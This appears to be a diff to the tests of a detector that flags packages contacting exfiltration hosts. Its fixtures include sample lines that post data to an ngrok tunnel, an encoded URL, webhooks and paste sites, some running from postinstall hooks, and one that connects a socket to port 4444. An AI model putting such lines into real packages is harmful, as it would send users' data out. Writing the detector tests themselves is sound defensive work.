@@ -42,7 +42,7 @@ PYTHON = [
     f"import base64, requests\nrequests.post(base64.b64decode('{ENCODED}').decode(), json={{}})\n",
     "import urllib.request\nurllib.request.urlopen('http://3405803785/x')\n",
     "import http.client\nc = http.client.HTTPSConnection('hooks.slack.com')\nc.request('POST', '/services/T/B/x')\n",
-    "import subprocess\nsubprocess.run(['curl', '--data', 'x', 'https://transfer.sh/'])\n",
+    "import subprocess\nsubprocess.run(['curl', '--data', 'x', 'https://a1b2.ngrok-free.app/'])\n",
     "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n",
 ]
 
@@ -74,6 +74,10 @@ class TestAlarm:
         (found,) = findings(exfiltration_host, npm({"a.js": JAVASCRIPT[1]}, scripts={"postinstall": "node a.js"}))
         assert told([found]) == ["high: its install step talks to a chat webhook (discord.com)"]
         assert places(found) == ["package.json:5", "a.js:2"]
+
+    def test_a_paste_site_is_high_in_an_install_step(self) -> None:
+        source = "fetch('https://pastebin.com/raw/x');"
+        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]
 
     def test_a_command_is_medium_and_a_test_low(self) -> None:
         source = "fetch('https://webhook.site/abc', { method: 'POST' });"
@@ -108,6 +112,11 @@ class TestInnocentTwin:
     def test_a_client_of_the_service_is_not_told(self, name: str, source: str) -> None:
         found = exfiltration_host.detect(Specimen(Package.parse(f"npm/{name}@1.0.0"), npm({"index.js": source})))
         assert list(found) == []
+
+    def test_a_tool_that_shares_reports_on_a_paste_site_is_no_warning(self) -> None:
+        """The shape of IPython's, which does so when somebody types a command."""
+        source = "from urllib.request import Request, urlopen\n\n\ndef pastebin(code):\n    return urlopen(Request('https://dpaste.com/api/v2/', data=code)).read()\n"
+        assert severities(wheel({"imgpress/__init__.py": source})) == ["medium"]
 
     def test_a_client_that_is_told_which_webhook_to_use_is_no_warning(self) -> None:
         """The shape of plugins that notify: whoever uses them brings the address."""
